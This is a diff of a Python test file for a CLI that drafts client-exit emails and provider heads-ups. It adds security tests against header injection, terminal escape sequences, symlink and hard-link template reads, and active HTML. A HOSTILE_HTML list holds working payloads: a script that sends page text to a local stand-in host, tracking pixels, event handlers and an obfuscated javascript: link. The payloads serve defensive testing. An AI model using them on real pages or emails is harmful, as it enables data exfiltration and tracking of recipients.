@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import email
 import email.policy
+import json
 import os
 import socket
 import stat
@@ -84,6 +85,27 @@ class TestClientDataIsData:
         assert "\x1b" not in result.stdout and "\u202e" not in result.stdout
         assert "Ac[31mme€0001" in result.stdout
 
+    def test_invisible_characters_are_removed(self, runner: CliRunner) -> None:
+        hidden = "\u200bA\u00adc\u200e\u061cm\u2060e\ufeff\U000e0041\U000e007f Co"
+        result = runner.invoke(cli, ["script", "diva", "--client", hidden])
+        assert result.exit_code == 0 and "Acme Co" in result.stdout
+
+    MARKDOWN = ["a &amp; b", "1. x", "2) y", "+ plus", "- dash", "---", "===", "# h", "> q"]
+
+    @pytest.mark.parametrize("value", MARKDOWN)
+    def test_markdown_shows_a_value_as_typed(self, value: str) -> None:
+        """Read by a CommonMark reader, a value is its text: no entity, list, rule or heading."""
+        markdown_it = pytest.importorskip("markdown_it")
+        from html import escape
+
+        from breakup.registry import md_escape
+
+        reader = markdown_it.MarkdownIt("commonmark")
+        for line in (md_escape(value), f"Notes:\n{md_escape(value)}", f"- {md_escape(value)}"):
+            rendered = reader.render(line)
+            assert rendered.count("<p>") + rendered.count("<li>") == 1, rendered
+            assert escape(value, quote=False) in rendered, rendered
+
     @pytest.mark.parametrize("option", ["--client", "--contact", "--service", "--greeting"])
     def test_a_line_break_is_refused(self, runner: CliRunner, option: str) -> None:
         result = runner.invoke(cli, ["email", "diva", option, "Acme\nBcc: x@example.com"])
@@ -133,6 +155,90 @@ class TestEmailHeaders:
     def test_an_international_domain_is_written_as_idna(self) -> None:
         message = self._draft(client_email="ana@münchen.de")
         assert "xn--mnchen-3ya.de" in str(message["To"])
+
+
+def parse_draft(path: Path) -> email.message.EmailMessage:
+    message = email.message_from_bytes(path.read_bytes(), policy=email.policy.default)
+    return message  # type: ignore[return-value]
+
+
+class TestTheHeadsUpGoesToTheProvider:
+    """The heads-up tells a provider, in confidence, why the client is leaving: as a mail
+    draft it is addressed to that provider, one draft each, and never to the client."""
+
+    CLIENT = ["--client", "Acme", "--contact", "Bo", "--client-email", "bo@acme.example"]
+
+    @staticmethod
+    def _body(message: email.message.EmailMessage) -> str:
+        return str(message.get_body(("plain",)).get_content())  # type: ignore[union-attr]
+
+    def test_one_provider_gets_the_draft_named_by_o(self, runner: CliRunner) -> None:
+        result = runner.invoke(cli, ["heads-up", "diva", *self.CLIENT, *PROFILE,
+                                     "--service", "web design", "-o", "h.eml"])  # fmt: skip
+        assert result.exit_code == 0, result.output
+        message = parse_draft(Path("h.eml"))
+        assert message["To"] == "Jorge Salas <jorge@salasdigital.es>"
+        assert "acme.example" not in message.as_string()
+        body = self._body(message)
+        assert body.startswith("Hi Jorge,") and "To:" not in body and "Ana" not in body
+
+    def test_each_provider_gets_a_draft_of_their_own(self, runner: CliRunner) -> None:
+        result = runner.invoke(cli, ["heads-up", "diva", *self.CLIENT, *PROFILE, "-o", "h.eml"])
+        assert result.exit_code == 0, result.output
+        assert not Path("h.eml").exists()
+        jorge, ana = parse_draft(Path("h-jorge-salas.eml")), parse_draft(Path("h-ana-ruiz.eml"))
+        assert jorge["To"] == "Jorge Salas <jorge@salasdigital.es>"
+        assert ana["To"] == "Ana Ruiz <ana@nortebranding.com>"
+        assert self._body(ana).startswith("Hi Ana,") and "Jorge" not in self._body(ana)
+        for message in (jorge, ana):
+            assert "acme.example" not in message.as_string()
+
+    def test_several_drafts_need_a_file_name(self, runner: CliRunner) -> None:
+        result = runner.invoke(cli, ["heads-up", "diva", *self.CLIENT, *PROFILE, "-f", "eml"])
+        assert result.exit_code == 2 and result.stdout == ""
+        assert "one draft each: give -o FILE.eml" in one_error(result)
+
+    def test_a_provider_without_an_email_gets_a_draft_without_to(self, runner: CliRunner) -> None:
+        Path("p.toml").write_text(
+            '[sender]\nname = "Ann"\nemail = "ann@example.com"\n'
+            '[[referrals]]\nname = "Jo Lee"\nservices = ["web"]\nagreed = true\n',
+            encoding="utf-8",
+        )
+        result = runner.invoke(cli, ["heads-up", "diva", *self.CLIENT, "--profile", "p.toml",
+                                     "-o", "h.eml"])  # fmt: skip
+        assert result.exit_code == 0, result.output
+        message = parse_draft(Path("h.eml"))
+        assert message["To"] is None and "acme.example" not in message.as_string()
+        assert "email in the provider's [[referrals]] table" in result.stderr
+
+    def test_in_a_batch_each_provider_gets_a_draft(self, runner: CliRunner) -> None:
+        Path("c.csv").write_text(
+            "archetype,client,contact,client_email,service\n"
+            "diva,Acme,Bo,bo@acme.example,\ndiva,Beta,Cy,cy@beta.example,branding\n",
+            encoding="utf-8",
+        )
+        result = runner.invoke(cli, ["batch", "c.csv", "-o", "out", "--only", "heads-up",
+                                     "-f", "eml", *PROFILE])  # fmt: skip
+        assert result.exit_code == 0, result.output
+        drafts = sorted(Path("out").glob("*/*.eml"))
+        assert [f"{p.parent.name}/{p.name}" for p in drafts] == [
+            "acme/heads-up-ana-ruiz.eml", "acme/heads-up-jorge-salas.eml",
+            "beta/heads-up-ana-ruiz.eml",
+        ]  # fmt: skip
+        for path in drafts:
+            message = parse_draft(path)
+            assert path.stem.split("-", 2)[2].split("-")[0] in str(message["To"]).lower()
+            assert "example" not in str(message["To"])
+
+    def test_the_library_never_addresses_one_draft_to_several(self, profile: Profile) -> None:
+        from breakup.publish import drafts
+
+        facts = ClientFacts(client="Acme", client_email="bo@acme.example")
+        with pytest.raises(InputError, match="goes to 2 providers, one draft each"):
+            publish("heads-up", "diva", "eml", facts=facts, profile=profile, lang="en")
+        found = drafts("heads-up", "diva", "eml", facts=facts, profile=profile, lang="en")
+        assert [key for key, _out in found] == ["jorge-salas", "ana-ruiz"]
+        assert all(b"acme.example" not in out.data for _key, out in found)
 
 
 class TestFiles:
@@ -278,7 +384,9 @@ class TestFiles:
 
 
 class TestTemplatesStayInTheirFolder:
-    """A template whose real path leaves the overlay (or the built-in folder) is refused."""
+    """A template is read from inside its folder only: no symbolic link (even one swapped in
+    while it is read), no hard link to another file, nothing but a regular file, at most
+    1 MB."""
 
     def test_a_symlinked_template_file(self, tmp_path: Path, runner: CliRunner) -> None:
         secret = tmp_path / "secret.txt"
@@ -287,8 +395,87 @@ class TestTemplatesStayInTheirFolder:
         (root / "documents").mkdir(parents=True)
         os.symlink(secret, root / "documents" / "email.j2")
         result = runner.invoke(cli, ["email", "diva", "--templates", str(root)])
-        assert "TOP SECRET" not in result.output and result.exit_code == 1
+        assert "TOP SECRET" not in result.output and result.exit_code == 2
         assert "outside the templates folder" in one_error(result)
+
+    def test_a_symlinked_documents_folder(self, tmp_path: Path, runner: CliRunner) -> None:
+        elsewhere = tmp_path / "elsewhere"
+        elsewhere.mkdir()
+        (elsewhere / "email.j2").write_text("TOP SECRET", encoding="utf-8")
+        root = overlay(tmp_path, {})
+        root.mkdir()
+        os.symlink(elsewhere, root / "documents")
+        result = runner.invoke(cli, ["email", "diva", "--templates", str(root)])
+        assert "TOP SECRET" not in result.output and result.exit_code == 2
+        assert "documents is a symbolic link" in one_error(result)
+
+    def test_a_link_swapped_in_while_reading_is_never_followed(self, tmp_path: Path) -> None:
+        """The check and the read are one: a template swapped for a link to a file outside,
+        over and over while it is read, is never read through the link."""
+        import threading
+
+        from breakup import catalog
+
+        secret = tmp_path / "secret.txt"
+        secret.write_text("TOP SECRET", encoding="utf-8")
+        root = overlay(tmp_path, {"documents/email.j2": "SAFE"})
+        folder = root / "documents"
+        env = catalog.environment("en", "US", "formal", False, root)
+        stop = threading.Event()
+
+        def swap() -> None:
+            while not stop.is_set():
+                (folder / ".a").write_text("SAFE", encoding="utf-8")
+                os.replace(folder / ".a", folder / "email.j2")
+                os.symlink(secret, folder / ".b")
+                os.replace(folder / ".b", folder / "email.j2")
+
+        swapper = threading.Thread(target=swap)
+        swapper.start()
+        seen = set()
+        try:
+            for _ in range(3000):
+                try:
+                    seen.add(env.loader.get_source(env, "documents/email.j2")[0])
+                except (TemplateError, OSError):
+                    seen.add("refused")
+        finally:
+            stop.set()
+            swapper.join()
+        assert "TOP SECRET" not in seen and "SAFE" in seen
+
+    def test_a_hard_link_to_a_file_outside(self, tmp_path: Path, runner: CliRunner) -> None:
+        secret = tmp_path / "secret.txt"
+        secret.write_text("TOP SECRET", encoding="utf-8")
+        root = overlay(tmp_path, {})
+        (root / "documents").mkdir(parents=True)
+        os.link(secret, root / "documents" / "email.j2")
+        result = runner.invoke(cli, ["email", "diva", "--templates", str(root)])
+        assert "TOP SECRET" not in result.output and result.exit_code == 2
+        assert "other hard links" in one_error(result)
+
+    @pytest.mark.parametrize("kind", ["fifo", "folder"])
+    def test_a_template_that_is_not_a_file_is_refused(
+        self, tmp_path: Path, runner: CliRunner, kind: str
+    ) -> None:
+        """Never silently replaced by the built-in template of the same name."""
+        root = overlay(tmp_path, {})
+        (root / "documents").mkdir(parents=True)
+        target = root / "documents" / "email.j2"
+        target.mkdir() if kind == "folder" else os.mkfifo(target)
+        result = runner.invoke(cli, ["email", "diva", "--templates", str(root)])
+        assert result.exit_code == 2 and "Dear" not in result.stdout
+        assert "not a regular file" in one_error(result)
+
+    def test_a_huge_template_is_refused_before_it_is_read(
+        self, tmp_path: Path, runner: CliRunner
+    ) -> None:
+        root = overlay(tmp_path, {})
+        (root / "documents").mkdir(parents=True)
+        with open(root / "documents" / "email.j2", "wb") as sparse:
+            sparse.truncate(3 * 2**30)  # 3 GB, and no disk space taken
+        result = runner.invoke(cli, ["email", "diva", "--templates", str(root)])
+        assert result.exit_code == 2 and "larger than 1000 KB" in one_error(result)
 
     def test_a_symlinked_archetype_folder(self, tmp_path: Path, runner: CliRunner) -> None:
         elsewhere = tmp_path / "elsewhere"
@@ -316,7 +503,7 @@ class TestUserTemplatesAreSandboxed:
     def test_internals_are_refused(self, tmp_path: Path, runner: CliRunner, body: str) -> None:
         root = overlay(tmp_path, {"documents/email.j2": body})
         result = runner.invoke(cli, ["email", "diva", "--templates", str(root)])
-        assert result.exit_code == 1 and "uid=" not in result.output
+        assert result.exit_code == 2 and "uid=" not in result.output
         one_error(result)
 
     def test_an_endless_loop_in_an_archetype_under_rehearse(
@@ -330,7 +517,7 @@ class TestUserTemplatesAreSandboxed:
         loop = "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}"
         root = overlay(tmp_path, {"archetypes/slow/archetype.j2": loop + text})
         result = runner.invoke(cli, ["rehearse", "slow", "--templates", str(root)], input="ok\n")
-        assert result.exit_code == 1 and "longer than" in one_error(result)
+        assert result.exit_code == 2 and "longer than" in one_error(result)
 
 
 class TestProfile:
@@ -357,6 +544,146 @@ class TestProfile:
         Path("p.toml").write_bytes(b'\xef\xbb\xbf[sender]\nname = "Ann"\n')
         result = runner.invoke(cli, ["email", "diva", "--profile", "p.toml"])
         assert result.exit_code == 0 and "Ann" in result.stdout
+
+
+ESCAPES = "\x1b]0;PWNED\x07\x1b]52;c;aWQK\x07\x9b31m"
+
+
+class TestTerminalOutput:
+    """Names and texts from the user's files (archetype folders and descriptions, draft file
+    names) are printed with their control characters escaped: none can move the cursor, set
+    the title or the clipboard (OSC), or forge a line of its own."""
+
+    def _forged(self, tmp_path: Path) -> Path:
+        readme = (Path(__file__).parent.parent / "README.md").read_text(encoding="utf-8")
+        own = readme.split("## Your own templates", 1)[1].split("```jinja\n", 1)[1]
+        own = own.split("```", 1)[0]
+        described = own.replace(
+            '{% set description = "', '{% set description = "' + ESCAPES + "\nError: forged "
+        )
+        root = overlay(tmp_path, {"archetypes/esc/archetype.j2": described})
+        (root / "archetypes" / "bad\nError: fake line").mkdir()
+        (root / "archetypes" / "bad\nError: fake line" / "archetype.j2").write_text(own, "utf-8")
+        return root
+
+    @staticmethod
+    def _clean(text: str) -> None:
+        assert not any(c in text for c in "\x1b\x07\x9b")
+        assert not any(line.startswith("Error: f") for line in text.splitlines())
+
+    def test_the_archetypes_listing(self, tmp_path: Path, runner: CliRunner) -> None:
+        root = self._forged(tmp_path)
+        for ids in ([], ["--ids"]):
+            result = runner.invoke(cli, ["archetypes", *ids, "--templates", str(root)])
+            assert result.exit_code == 0, result.output
+            self._clean(result.stdout)
+            assert "bad\\nError: fake line" in result.stdout
+
+    def test_decides_menu(self, tmp_path: Path, runner: CliRunner) -> None:
+        root = self._forged(tmp_path)
+        result = runner.invoke(cli, ["decide", "--templates", str(root)], input="\n" * 20)
+        assert "1. bad\\nError: fake line" in result.stderr, result.output
+        self._clean(result.stderr)
+
+    @pytest.mark.parametrize("fmt", ["text", "line", "json"])
+    def test_draft_file_names_in_checks_report(
+        self, tmp_path: Path, runner: CliRunner, fmt: str
+    ) -> None:
+        names = [f"e{ESCAPES}.txt", "n\nx.txt:9:9: forged\n.txt"]
+        for name in names:
+            (tmp_path / name).write_text("You never pay.\n", "utf-8")
+        result = runner.invoke(cli, ["check", "--lang", "en", "--format", fmt, *names])
+        assert result.exit_code == 1, result.output
+        self._clean(result.stdout)
+        if fmt == "json":
+            data = json.loads(result.stdout)
+            assert [f["file"] for f in data["files"]] == names  # the same names, escaped
+        else:
+            assert len(result.stdout.splitlines()) == (4 if fmt == "text" else 2)
+            assert all(line.startswith(("e\\x1b]0;", "n\\nx.txt:9:9: forged\\n.txt:"))
+                       for line in result.stdout.splitlines())  # fmt: skip
+
+    def test_a_name_in_a_warning(self, capsys: pytest.CaptureFixture[str]) -> None:
+        from breakup.cli import warn
+
+        warn(f"{ESCAPES}\nError: forged")
+        err = capsys.readouterr().err
+        assert err.startswith("Warning: ") and len(err.splitlines()) == 1
+        self._clean(err)
+
+    def test_a_name_in_an_error_line(self, runner: CliRunner) -> None:
+        result = runner.invoke(cli, ["check", f"x{ESCAPES}\nError: forged"])
+        assert result.exit_code == 2 and len(result.stderr.splitlines()) == 1
+        self._clean(result.stderr)
+
+
+HOSTILE_HTML = {
+    "script": '<script>fetch("http://127.0.0.1:9/x?d=" + document.body.innerText)</script>',
+    "pixel": '<img src="http://127.0.0.1:9/px.png?c={{ client.name|urlencode }}">',
+    "handler": '<img src="data:image/png;base64,AA" onerror="fetch(\'http://127.0.0.1:9\')">',
+    "css-url": '<p style="background: u\\72l(http://127.0.0.1:9/x)">x</p>',
+    "css-import": "<style>@import 'http://127.0.0.1:9/x.css';</style>",
+    "javascript-link": '<a href=" java&#9;script:alert(1)">x</a>',
+    "refresh": '<meta http-equiv="refresh" content="0; url=http://127.0.0.1:9/">',
+    "frame": '<iframe src="http://127.0.0.1:9/"></iframe>',
+    "svg": '<svg><image href="http://127.0.0.1:9/x.png"/></svg>',
+    "conditional": "<!--[if mso]><img src=http://127.0.0.1:9/x.png><![endif]-->",
+}
+
+
+class TestNothingRunsOrIsFetched:
+    """An HTML page or a draft's HTML from user templates holds markup and text only: anything
+    that could run or fetch is refused; and every page's policy forbids both."""
+
+    @pytest.mark.parametrize("fmt", ["html", "eml"])
+    @pytest.mark.parametrize("snippet", HOSTILE_HTML.values(), ids=HOSTILE_HTML.keys())
+    def test_active_content_from_a_template_is_refused(
+        self, tmp_path: Path, runner: CliRunner, snippet: str, fmt: str
+    ) -> None:
+        root = overlay(tmp_path, {"documents/email.j2": "Dear {{ client.contact }},\n" + snippet})
+        result = runner.invoke(cli, ["email", "diva", "--templates", str(root), "--client",
+                                     "Golden Fork", "-o", f"out.{fmt}"])  # fmt: skip
+        assert result.exit_code == 2 and not Path(f"out.{fmt}").exists()
+        assert "could run or fetch something" in one_error(result)
+
+    def test_a_page_override_is_checked_and_gets_the_policy(
+        self, tmp_path: Path, runner: CliRunner
+    ) -> None:
+        from breakup.safehtml import POLICY_META
+
+        plain = "<html><head><title>{{ title }}</title></head><body>{{ content }}</body></html>"
+        root = overlay(tmp_path, {"formats/page.j2": plain})
+        result = runner.invoke(cli, ["email", "diva", "--templates", str(root), "-o", "a.html"])
+        assert result.exit_code == 0, result.output
+        assert Path("a.html").read_text("utf-8").startswith(f"<html><head>\n{POLICY_META}<title>")
+        sneaky = plain.replace("<head>", "<head><script>x()</script>")
+        root = overlay(tmp_path, {"formats/page.j2": sneaky})
+        result = runner.invoke(cli, ["email", "diva", "--templates", str(root), "-f", "html"])
+        assert result.exit_code == 2 and "<script>" in one_error(result)
+
+    def test_plain_markup_from_a_template_is_kept(self, tmp_path: Path, runner: CliRunner) -> None:
+        markup = (
+            '<p style="color: #333">Dear {{ client.contact }},</p>'
+            '<a href="https://example.com/about">About us</a> <a href="mailto:a@b.co">mail</a>'
+            '<img alt="logo" src="data:image/png;base64,iVBORw0KGgo=">'
+        )
+        root = overlay(tmp_path, {"documents/email.j2": markup})
+        result = runner.invoke(cli, ["email", "diva", "--templates", str(root), "-f", "html"])
+        assert result.exit_code == 0, result.output
+        assert markup.replace("{{ client.contact }}", "[contact name]") in result.stdout
+
+    @pytest.mark.parametrize("document", list(registry.DOCUMENTS))
+    def test_every_page_and_draft_carries_the_policy(self, profile: Profile, document: str) -> None:
+        from breakup.safehtml import POLICY_META
+
+        out = publish(document, "diva", "html", profile=profile, lang="en", today=TODAY)
+        head = out.data.decode("utf-8").split("<head>", 1)[1]
+        assert head.startswith(f'\n<meta charset="utf-8">\n{POLICY_META}\n')
+        if registry.FORMATS["eml"].allows(document) and document != "heads-up":
+            draft = publish(document, "diva", "eml", profile=profile, lang="en", today=TODAY)
+            message = email.message_from_bytes(draft.data, policy=email.policy.default)
+            part = message.get_body(("html",))
+            assert part is not None and POLICY_META in part.get_content()
 
 
 class TestOffline:
@@ -393,8 +720,16 @@ class TestOffline:
             raise AssertionError("network")
 
         monkeypatch.setattr(socket.socket, "connect", refuse)
+        with pytest.raises(TemplateError, match="could run or fetch"):  # refused first...
+            publish("notes", "diva", "pdf", lang="en", templates=root, today=TODAY)
+        from breakup import safehtml
+        from breakup.pdf import html_to_pdf
+
+        # ...and were it let through, the PDF still fetches nothing.
+        monkeypatch.setattr(safehtml, "check_page", lambda page, what: page)
         out = publish("notes", "diva", "pdf", lang="en", templates=root, today=TODAY)
         assert out.data.startswith(b"%PDF") and b"TOP SECRET" not in out.data and not fetched
+        assert html_to_pdf(page).startswith(b"%PDF") and not fetched
 
 
 @settings(
